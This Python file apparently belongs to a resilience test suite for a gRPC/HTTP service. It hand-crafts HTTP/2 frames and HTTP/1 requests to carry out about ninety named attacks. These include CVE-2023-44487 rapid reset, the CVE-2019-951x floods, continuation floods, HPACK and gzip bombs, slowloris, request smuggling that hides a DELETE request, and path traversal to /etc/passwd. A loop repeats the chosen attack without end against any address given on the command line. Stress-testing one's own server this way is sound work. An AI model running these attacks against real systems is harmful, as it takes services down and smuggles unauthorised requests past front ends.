"""Attacks on HTTP/2 and HTTP/1, by the names that their reports have.

Frames are made by hand (RFC 9113), as no library would send them. An attack is what is sent first on a connection, and what is sent again
and again after that. `python attacks.py NUMBER ADDRESS CONNECTIONS` makes one until it is killed: a process of its own, so that what the
honest client sees is the server's doing. It prints a dot for each connection.
"""

import selectors
import socket
import struct
import sys
import time
import zlib
from pathlib import Path
from typing import Callable, List, NamedTuple, Optional

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "python"))

import attackers  # noqa: E402
from attackers import DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, WINDOW_UPDATE  # noqa: E402

RST_STREAM, PING, GOAWAY, CONTINUATION = 3, 6, 7, 9
ACK = 1


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return attackers.frame(kind, flags, stream_id, payload)


PRIORITY, PUSH_PROMISE, UNKNOWN = 2, 5, 0xFA
PADDED = 8
GRPC, HTTP = "grpc", "http"
OPENING = PREFACE + frame(SETTINGS, 0, 0)
# Of the setting that lets the server send nothing.
INITIAL_WINDOW_SIZE, HEADER_TABLE_SIZE, MAX_FRAME_SIZE = 4, 1, 5
SUM = "/Table/ColumnSum"
LIST = "/tally.v1.Tally/ListParts"
UPLOAD = "/tally.v1.Tally/Upload"
SUM_OF_Y = b"\x00\x00\x00\x00\x08\x0a\x01y\x12\x03csv"
THEFT = b"DELETE /api/v1/table/parts/2 HTTP/1.1\r\nHost: localhost\r\n\r\n"


class Attack(NamedTuple):
    name: str
    port: str
    opening: bytes
    # More to send, by its turn, from 1.
    again: Optional[Callable[[int], bytes]] = None
    # Whether the client reads what the server sends.
    reads: bool = True
    has_preface: bool = True


def stream(turn: int) -> int:
    """The id of the turn's own stream."""
    return 2 * turn - 1


def setting(key: int, value: int) -> bytes:
    return struct.pack(">HI", key, value)


def block(*fields) -> bytes:
    """A header block without any table or Huffman code, so that it may hold any bytes."""

    def text(value: bytes) -> bytes:
        return hpack_integer(len(value), 7) + value

    return b"".join(b"\x00" + text(name) + text(value) for name, value in fields)


def hpack_integer(value: int, bits: int) -> bytes:
    limit = 2**bits - 1
    if value < limit:
        return bytes([value])
    out, value = [limit], value - limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes([*out, value])


CALL = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", SUM.encode()), (b":authority", b"a")]
CALL_ENDS = [(b"content-type", b"application/grpc"), (b"te", b"trailers")]


def head_of_call(path: str, stream_id: int, *more) -> bytes:
    fields = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"a"), *CALL_ENDS, *more]
    return frame(HEADERS, END_HEADERS, stream_id, block(*fields))


def call_with(*more, fields=None) -> bytes:
    """The frames of a call on stream 1 with more, or other, fields."""
    payload = block(*(fields if fields is not None else CALL + CALL_ENDS), *more)
    return frame(HEADERS, END_HEADERS, 1, payload) + frame(DATA, END_STREAM, 1, SUM_OF_Y)


def call(turn: int, path: str = SUM, body: bytes = SUM_OF_Y) -> bytes:
    return head_of_call(path, stream(turn)) + frame(DATA, END_STREAM, stream(turn), body)


def on(name: str, opening: bytes = b"", again=None, **more) -> Attack:
    return Attack(name, GRPC, opening, again, **more)


def bomb() -> bytes:
    """A header block that refers to one long entry of the dynamic table very often."""
    first = b"\x40" + hpack_integer(1, 7) + b"x" + hpack_integer(3000, 7) + b"b" * 3000
    return first + b"\xbe" * 12_000


HELD = head_of_call(UPLOAD, 1)

HTTP2: List[Attack] = [
    on("CVE-2019-9511 data dribble", frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 1)) + call(1, LIST, b"\0\0\0\0\0"),
       lambda _turn: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 1))),
    on("CVE-2019-9512 ping flood", b"", lambda _turn: frame(PING, 0, 0, b"attacker")),
    on("CVE-2019-9513 priority shuffling", head_of_call(UPLOAD, 1),
       lambda turn: frame(PRIORITY, 0, 1 + 2 * (turn % 50), struct.pack(">IB", 2 * (turn % 7) + 101, turn % 256))),
    on("CVE-2019-9514 reset flood", b"", lambda turn: frame(HEADERS, END_HEADERS, stream(turn), block((b"X", b"y")))),
    on("CVE-2019-9515 settings flood", b"", lambda turn: frame(SETTINGS, 0, 0, setting(HEADER_TABLE_SIZE, turn % 4096))),
    on("CVE-2019-9516 headers without length", b"", lambda turn: frame(HEADERS, END_HEADERS, stream(turn), block(*[(b"", b"")] * 50))),
    on("CVE-2019-9517 unread answers", b"", lambda turn: call(turn, LIST, b"\0\0\0\0\0"), reads=False),
    on("CVE-2019-9518 empty frames", HELD, lambda _turn: frame(DATA, 0, 1)),
    on("CVE-2023-44487 rapid reset", b"", lambda turn: call(turn) + frame(RST_STREAM, 0, stream(turn), struct.pack(">I", 8))),
    on("CVE-2023-26964 resets before they are accepted", b"",
       lambda turn: head_of_call(SUM, stream(turn)) + frame(RST_STREAM, 0, stream(turn), struct.pack(">I", 8))),
    on("CVE-2024-27316 continuation flood", frame(HEADERS, 0, 1, block(*CALL)),
       lambda turn: frame(CONTINUATION, 0, 1, block((b"x-%d" % turn, b"v" * 200)))),
    on("CVE-2024-2653 empty continuations", frame(HEADERS, 0, 1, block(*CALL)), lambda _turn: frame(CONTINUATION, 0, 1)),
    on("CVE-2025-8671 made you reset: window of 0", b"",
       lambda turn: head_of_call(SUM, stream(turn)) + frame(WINDOW_UPDATE, 0, stream(turn), struct.pack(">I", 0))),
    on("CVE-2025-8671 made you reset: window overflow", b"",
       lambda turn: head_of_call(SUM, stream(turn)) + frame(WINDOW_UPDATE, 0, stream(turn), struct.pack(">I", 2**31 - 1))),
    on("CVE-2025-8671 made you reset: data after the end", b"", lambda turn: call(turn) + frame(DATA, 0, stream(turn), b"more")),
    on("CVE-2025-8671 made you reset: priority of a wrong length", b"",
       lambda turn: head_of_call(SUM, stream(turn)) + frame(PRIORITY, 0, stream(turn), b"abcd")),
    on("CVE-2016-1546 slow read", frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 0)), lambda turn: call(turn) if turn < 100 else b"", reads=False),
    on("CVE-2016-6581 HPACK bomb", frame(HEADERS, END_HEADERS, 1, bomb())),
    on("CVE-2016-8740 endless fields", frame(HEADERS, 0, 1, block(*CALL)), lambda _turn: frame(CONTINUATION, 0, 1, block(*[(b"a", b"")] * 200))),
    on("RUSTSEC-2024-0003 invalid frames that are answered", b"", 
       lambda turn: frame(HEADERS, END_HEADERS | END_STREAM, stream(turn), block(*CALL, (b"connection", b"close")))),
    on("RFC 9113 3.4 no preface", b"PRI * HTTP/2.0\r\n\r\nXX\r\n\r\n" * 100, has_preface=False),
    on("RFC 9113 4.1 unknown frames", b"", lambda turn: frame(UNKNOWN, 0xFF, turn % 9, b"u" * 1000)),
    on("RFC 9113 4.2 a frame above the maximum", struct.pack(">I", 2**24 - 1)[1:] + struct.pack(">BBI", DATA, 0, 1), lambda _turn: b"x" * 65_536),
    on("RFC 9113 4.3 a header block that is no HPACK", frame(HEADERS, END_HEADERS, 1, b"\xff" * 400)),
    on("RFC 7541 5.1 an integer that never ends", frame(HEADERS, END_HEADERS, 1, b"\x7f" + b"\xff" * 4000)),
    on("RFC 7541 4.2 a table size above the limit", frame(HEADERS, END_HEADERS, 1, b"\x3f" + b"\xff" * 4 + b"\x07" + block(*CALL))),
    on("RFC 9113 5.1 data on an idle stream", frame(DATA, 0, 9, b"x" * 100)),
    on("RFC 9113 5.1.1 a stream with an even number", head_of_call(SUM, 2)),
    on("RFC 9113 5.1.1 a number that was used", call(5) + call(1)),
    on("RFC 9113 5.1.2 more streams than allowed", b"", lambda turn: head_of_call(UPLOAD, stream(turn))),
    on("RFC 9113 5.3.1 a stream that depends on itself", head_of_call(UPLOAD, 1) + frame(PRIORITY, 0, 1, struct.pack(">IB", 1, 1))),
    on("RFC 9113 6.1 more padding than payload", HELD + frame(DATA, PADDED, 1, b"\xffxx")),
    on("RFC 9113 6.1 padding only", HELD, lambda _turn: frame(DATA, PADDED, 1, b"\xff" + b"\0" * 255)),
    on("RFC 9113 6.2 headers on stream 0", frame(HEADERS, END_HEADERS, 0, block(*CALL))),
    on("RFC 9113 6.4 a reset of an idle stream", frame(RST_STREAM, 0, 7, struct.pack(">I", 8))),
    on("RFC 9113 6.5 settings of a wrong length", frame(SETTINGS, 0, 0, b"12345")),
    on("RFC 9113 6.5 acknowledged settings with content", frame(SETTINGS, ACK, 0, setting(1, 1))),
    on("RFC 9113 6.5.2 a window above the maximum", frame(SETTINGS, 0, 0, setting(INITIAL_WINDOW_SIZE, 2**31))),
    on("RFC 9113 6.5.2 frames below the minimum", frame(SETTINGS, 0, 0, setting(MAX_FRAME_SIZE, 1))),
    on("RFC 9113 6.6 a push from a client", frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + block(*CALL))),
    on("RFC 9113 6.7 a ping of 7 bytes", frame(PING, 0, 0, b"1234567")),
    on("RFC 9113 6.8 calls after the client's goodbye", frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0)), call),
    on("RFC 9113 6.9 a window update of 0", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0))),
    on("RFC 9113 6.9.1 a window that overflows", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**31 - 1)) * 2),
    on("RFC 9113 6.9.1 more data than the window", HELD, lambda _turn: frame(DATA, 0, 1, b"\0\0\xff\xff\xff" + b"x" * 16_000)),
    on("RFC 9113 6.10 a continuation of nothing", frame(CONTINUATION, END_HEADERS, 1, block(*CALL))),
    on("RFC 9113 6.10 a frame within a header block", frame(HEADERS, 0, 1, block(*CALL)) + frame(PING, 0, 0, b"between!")),
    on("RFC 9113 8.1.1 a content-length that is wrong", head_of_call(SUM, 1, (b"content-length", b"999")) + frame(DATA, END_STREAM, 1, SUM_OF_Y)),
    on("RFC 9113 8.2.1 line breaks and NUL in a field", call_with((b"x", b"a\r\nb: c\0"))),
    on("RFC 9113 8.2.1 upper case in a name", call_with((b"X-Upper", b"x"))),
    on("RFC 9113 8.2.2 transfer-encoding", call_with((b"transfer-encoding", b"chunked"))),
    on("RFC 9113 8.3 pseudo fields twice, late and unknown", call_with((b":path", b"/"), (b":status", b"200"), (b":evil", b"1"))),
    on("RFC 9113 8.3 no pseudo fields", call_with(fields=CALL_ENDS)),
    on("RFC 9113 8.5 CONNECT", call_with(fields=[(b":method", b"CONNECT"), (b":authority", b"localhost:1")])),
    on("RFC 9113 10.5.1 a field list above the limit", call_with(*[(b"x-%d" % index, b"v" * 500) for index in range(60)])),
    on("RFC 9113 8.1 trailers without an end", HELD, lambda turn: frame(HEADERS, END_HEADERS, 1, block((b"t-%d" % turn, b"x")))),
    on("gRPC: a message of 4 GiB", HELD + frame(DATA, 0, 1, b"\0\xff\xff\xff\xff"), lambda _turn: frame(DATA, 0, 1, b"x" * 16_000)),
    on("gRPC: a compressed message", head_of_call(SUM, 1) + frame(DATA, END_STREAM, 1, b"\x01" + SUM_OF_Y[1:])),
    on("gRPC: nested groups", head_of_call(SUM, 1) + frame(DATA, END_STREAM, 1, struct.pack(">BI", 0, 4000) + b"\x1b" * 4000)),
]


def http(name: str, opening: bytes, again=None, **more) -> Attack:
    return Attack(name, HTTP, opening, again, **more)


def post(path: str, fields: str, body: bytes = b"") -> bytes:
    return f"POST {path} HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n".encode() + body


def chunk(content: bytes) -> bytes:
    """A chunk of a chunked body."""
    return b"%x\r\n%s\r\n" % (len(content), content)


def get(path: str, fields: str = "") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: localhost\r\n{fields}\r\n".encode()


PARTS = "/api/v1/table/parts"
TASKS = "/api/v1/file-processing/tasks/"
JSON = "/api/global_mean"

HTTP1: List[Attack] = [
    http("CVE-2007-6750 slowloris", b"GET /livez HTTP/1.1\r\nHost: localhost\r\n", lambda turn: b"x-%d: 1\r\n" % turn if turn < 20 else b""),
    http("RFC 9112 6.2 a body that does not come", post(PARTS, "Content-Length: 1000000\r\n", b"x\n")),
    http("RFC 9112 6.1 length and chunks (CL.TE)", post(JSON, "Content-Length: 6\r\nTransfer-Encoding: chunked\r\n", b"0\r\n\r\n" + THEFT)),
    http("RFC 9112 6.1 length and chunks (TE.CL)", post(JSON, "Transfer-Encoding: chunked\r\nContent-Length: 4\r\n", chunk(THEFT) + b"0\r\n\r\n")),
    http("RFC 9112 6.1 disguised chunks", post(JSON, "Transfer-Encoding: xchunked\r\nTransfer-Encoding : chunked\r\n", b"0\r\n\r\n" + THEFT)),
    http("RFC 9112 6.3 two lengths", post(JSON, f"Content-Length: 0\r\nContent-Length: {len(THEFT)}\r\n", THEFT)),
    http("RFC 9110 8.6 a length that is no number", post(JSON, "Content-Length: +0x10\r\n", b"{}")),
    http("RFC 9110 8.6 a length of 2^64", post(JSON, "Content-Length: 18446744073709551617\r\n", b"{}")),
    http("CVE-2002-0392 a chunk of 2^64", post(PARTS, "Transfer-Encoding: chunked\r\n", b"FFFFFFFFFFFFFFFFF\r\nx")),
    http("CVE-2013-2028 a chunk of -1", post(PARTS, "Transfer-Encoding: chunked\r\n", b"-1\r\nx")),
    http("CVE-2023-39326 chunk extensions", post(JSON, "Transfer-Encoding: chunked\r\n"), lambda _turn: b"1;" + b"e" * 8000 + b"\r\nx\r\n"),
    http("RFC 9112 7.1.2 endless trailers", post(JSON, "Transfer-Encoding: chunked\r\n", b"0\r\n"), lambda turn: b"t-%d: x\r\n" % turn),
    http("RFC 9112 5.2 a folded field", get("/livez", "X-A: b\r\n c: d\r\n")),
    http("RFC 9112 5.1 a space before the colon", post(JSON, f"Content-Length : {len(THEFT)}\r\n", THEFT)),
    http("RFC 9112 2.2 bare CR and LF", b"GET /livez HTTP/1.1\nHost: localhost\rX: y\n\n"),
    http("RFC 9110 5.5 NUL in a field", b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX: a\0b\r\n\r\n"),
    http("RFC 6585 5 a field without an end", b"GET /livez HTTP/1.1\r\nHost: localhost\r\nX: ", lambda _turn: b"y" * 65_536),
    http("RFC 6585 5 a thousand fields", get("/livez", "".join(f"x-{index}: y\r\n" for index in range(1000)))),
    http("RFC 9110 4.1 a path without an end", b"GET /", lambda _turn: b"p" * 65_536),
    http("RFC 9112 3.2 no host, and two", b"GET /livez HTTP/1.1\r\n\r\n" + b"GET /livez HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"),
    http("CVE-2011-3192 a thousand ranges", get(f"{PARTS}/1/csv", "Range: bytes=" + ",".join(f"{at}-" for at in range(1000)) + "\r\n")),
    http("RFC 9112 9.3.2 pipelined requests", b"", lambda _turn: get("/livez"), reads=False),
    http("RFC 9112 9.3.2 pipelined downloads, unread", b"", lambda _turn: get(f"{PARTS}/1/csv"), reads=False),
    http("RFC 9110 10.1.1 100-continue, and no body", post(PARTS, "Expect: 100-continue\r\nContent-Length: 100\r\n")),
    http("RFC 9110 7.8 upgrade to h2c", get("/livez", "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABk\r\n")),
    http("RFC 9113 3.4 HTTP/2 on the port of HTTP/1", OPENING + call(1)),
    http("RFC 9110 9.3.8 TRACE and CONNECT", b"TRACE / HTTP/1.1\r\nHost: localhost\r\n\r\nCONNECT a:1 HTTP/1.1\r\nHost: a:1\r\n\r\n"),
    http("RFC 1945 HTTP/0.9", b"GET /livez\r\n\r\n"),
    http("CVE-2021-41773 a path with ..", get("/api/v1/table/parts/..%2f..%2f..%2fetc%2fpasswd/csv") + get("/../../etc/passwd")),
    http("RFC 8259 9 deeply nested JSON", post(JSON, "Content-Type: application/json\r\nContent-Length: 30000\r\n", b"[" * 30_000)),
    http("RFC 2046 5.1.1 endless parts of a form", post(TASKS, "Content-Type: multipart/form-data; boundary=B\r\nTransfer-Encoding: chunked\r\n"),
         lambda turn: chunk(b'--B\r\nContent-Disposition: form-data; name="%d"\r\n\r\nx\r\n' % turn)),
    http("RFC 9110 8.4.1 a gzip bomb", post(PARTS, "Content-Encoding: gzip\r\nContent-Length: 10000000\r\n", zlib.compress(b"x" * 10_000_000, 9, 31))),
]

ATTACKS: List[Attack] = HTTP2 + HTTP1


# --- the process that makes one -------------------------------------------------------------------------------

TURN_BYTES = 128 * 1024


class Attacker:
    """One connection of an attack. It is written to whenever that is possible."""

    def __init__(self, attack: Attack, address: str):
        host, port = address.rsplit(":", 1)
        self.attack = attack
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.setblocking(False)
        self.turn = 0
        self.unsent = OPENING + attack.opening if attack.port == GRPC and attack.has_preface else attack.opening

    def go_on(self) -> bool:
        """Writes and reads some. Returns whether the connection is still open."""
        try:
            if self.attack.reads and not self._read():
                return False
            for _ in range(4):
                while self.attack.again and len(self.unsent) < TURN_BYTES:
                    self.turn += 1
                    more = self.attack.again(self.turn)
                    self.unsent += more
                    if not more:
                        break
                if not self.unsent:
                    return True
                sent = self.socket.send(self.unsent[:TURN_BYTES])
                self.unsent = self.unsent[sent:]
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True

    def _read(self) -> bool:
        try:
            return bool(self.socket.recv(65_536))
        except BlockingIOError:
            return True


def attack_for_ever(attack: Attack, address: str, connections: int) -> None:
    """Connections that the server closes are made anew."""
    selector = selectors.DefaultSelector()
    while True:
        while len(selector.get_map()) < connections:
            try:
                attacker = Attacker(attack, address)
            except OSError:
                time.sleep(0.02)
                continue
            sys.stdout.write(".")
            sys.stdout.flush()
            selector.register(attacker.socket, selectors.EVENT_READ | selectors.EVENT_WRITE, attacker)
        for key, _events in selector.select(timeout=0.05):
            if not key.data.go_on():
                selector.unregister(key.fileobj)
                key.fileobj.close()
        time.sleep(0.002)  # so that the machine has time for others, too


if __name__ == "__main__":
    attack_for_ever(ATTACKS[int(sys.argv[1])], sys.argv[2], int(sys.argv[3]))
